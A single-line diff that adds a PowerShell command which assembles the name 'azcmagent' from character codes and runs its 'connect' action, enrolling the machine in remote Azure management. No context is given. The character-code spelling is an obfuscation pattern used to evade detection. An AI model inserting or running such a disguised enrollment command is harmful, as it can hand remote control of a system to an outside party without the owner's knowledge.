@@ -1,0 +1,1 @@
+& ([char]0x61 + [char]122 + 'cmagent') connect
